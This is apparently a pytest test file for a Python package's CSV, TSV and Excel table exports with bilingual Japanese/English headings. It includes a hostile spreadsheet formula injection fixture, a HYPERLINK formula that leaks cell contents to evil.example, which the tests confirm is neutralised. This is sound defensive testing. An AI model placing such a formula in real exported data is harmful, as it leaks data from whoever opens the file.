"""Tables for people (pdgraph.outputs.tables): Excel-ready CSV, plain TSV, typed workbooks."""
from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest
from hypothesis import given, settings, strategies as st
from rdflib import Literal, URIRef

from pdgraph.errors import PdgraphError
from pdgraph.graph.stores import Solutions
from pdgraph.outputs.columns import COLUMNS, heading
from pdgraph.outputs.tables import (BOM, Table, render_tables, sheet_name, table_from_solutions, to_csv, to_tsv,
                                    to_xlsx, write_tables)
from pdgraph.query.catalogue import load_catalogue, parse_query, run_query

from test_queries import SEED_PARAMS

XSD = "http://www.w3.org/2001/XMLSchema#"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def answer() -> Solutions:
    return Solutions(["organization", "line", "date", "aggregate", "flow"], [
        (Literal(HOSTILE), Literal(7), Literal("2020-04-01"), Literal(True), URIRef("https://example.org/f/1")),
        (Literal("松戸市長"), Literal(8), Literal("2016-06"), Literal(False), None),
        (Literal("-1+1"), Literal("3.5", datatype=XSD + "decimal"), Literal("2020-04-01", datatype=XSD + "date"),
         None, Literal("@x")),
    ])


def test_values_are_plain_and_typed():
    table = table_from_solutions(answer(), "flows")
    assert table.headings[0] == "評価実施機関 / assessing body"
    assert table.rows[0] == [HOSTILE, 7, datetime.date(2020, 4, 1), True, "https://example.org/f/1"]
    assert table.rows[1] == ["松戸市長", 8, "2016-06", False, None]  # a year-month stays text
    assert table.rows[2][1:3] == [3.5, datetime.date(2020, 4, 1)]


def test_csv_is_excel_ready():
    data = render_tables([table_from_solutions(answer(), "flows")], "csv")
    assert data.startswith(BOM.encode("utf-8"))
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "評価実施機関 / assessing body" and not any(h.startswith("?") for h in rows[0])
    assert rows[1] == ["'" + HOSTILE, "7", "2020-04-01", "true", "https://example.org/f/1"]
    assert rows[2] == ["松戸市長", "8", "2016-06", "false", ""]
    assert rows[3][0] == "'-1+1" and rows[3][4] == "'@x"  # formulas defused
    assert "\r\n" in text and '"' not in rows[2][0]


def test_tsv_is_plain():
    text = to_tsv([table_from_solutions(answer(), "flows")])
    lines = text.splitlines()
    assert lines[0].split("\t")[1] == "行 / line"
    assert lines[2].split("\t") == ["松戸市長", "8", "2016-06", "false", ""]
    assert not text.startswith(BOM)


def test_several_tables_follow_each_other():
    one = Table("a", ["line"], [[1]])
    two = Table("b", ["line"], [[2]])
    rows = list(csv.reader(io.StringIO(to_csv([one, two]).lstrip(BOM))))
    assert rows == [["# a"], ["行 / line"], ["1"], [], ["# b"], ["行 / line"], ["2"]]


def test_workbook_is_typed_filtered_and_frozen(tmp_path):
    path = write_tables([table_from_solutions(answer(), "flows"), Table("flows", ["line"], [[1]])],
                        tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["flows", "flows (2)"]
    sheet = book["flows"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E4"
    assert [c.value for c in sheet[1]][:2] == ["評価実施機関 / assessing body", "行 / line"]
    first = sheet[2]
    assert (first[0].value, first[0].data_type) == (HOSTILE, "s")  # text, never a formula
    assert (first[1].value, first[1].data_type) == (7, "n")
    assert first[2].is_date and first[2].value.date() == datetime.date(2020, 4, 1)
    assert first[3].value is True
    assert sheet[3][2].value == "2016-06"
    assert sheet[4][1].value == 3.5
    assert 10 < sheet.column_dimensions["A"].width <= 60


def test_an_empty_answer_still_has_its_header():
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx([Table("none", ["line", "flow"])])))
    assert [c.value for c in book["none"][1]] == ["行 / line", "流れのIRI / flow IRI"]


@settings(deadline=None)  # timing is not the property; the machine may be loaded
@given(st.text(min_size=0, max_size=40))
def test_sheet_names_are_valid_and_unique(title):
    taken: set[str] = set()
    first, second = sheet_name(title, taken), sheet_name(title, taken)
    for name in (first, second):
        assert 1 <= len(name) <= 31 and not set(name) & set("[]:*?/\\")
    assert first.lower() != second.lower()


def test_a_format_is_named_by_suffix_or_refused(tmp_path):
    with pytest.raises(PdgraphError, match="suffix"):
        write_tables([Table("a", ["line"])], tmp_path / "out.txt")
    with pytest.raises(PdgraphError, match="unknown table format"):
        render_tables([], "ods")


def test_every_catalogue_column_has_a_japanese_and_english_heading(seed_oxigraph):
    for name, query in load_catalogue().items():
        answer = run_query(query, seed_oxigraph, SEED_PARAMS.get(name, {}))
        for variable in answer.variables:
            assert variable in COLUMNS or variable in query.headings(), f"{name}: {variable}"
            ja, _, en = heading(variable, query.headings()).partition(" / ")
            assert ja and en, f"{name}: {variable}"


def test_a_query_header_names_its_columns():
    query = parse_query("# title: t\n# ja: 問い\n# en: q\n# column: x 項目 / item\nSELECT ?x ?line WHERE { ?x ?p ?line }",
                        "mine")
    table = table_from_solutions(Solutions(["x", "line"], [(Literal("a"), Literal(1))]), "mine", query.headings())
    assert table.headings == ["項目 / item", "行 / line"]
    with pytest.raises(Exception, match="not a variable"):
        parse_query("# title: t\n# ja: 問い\n# en: q\n# column: y Y / y\nSELECT ?x WHERE { ?x ?p ?o }", "bad")
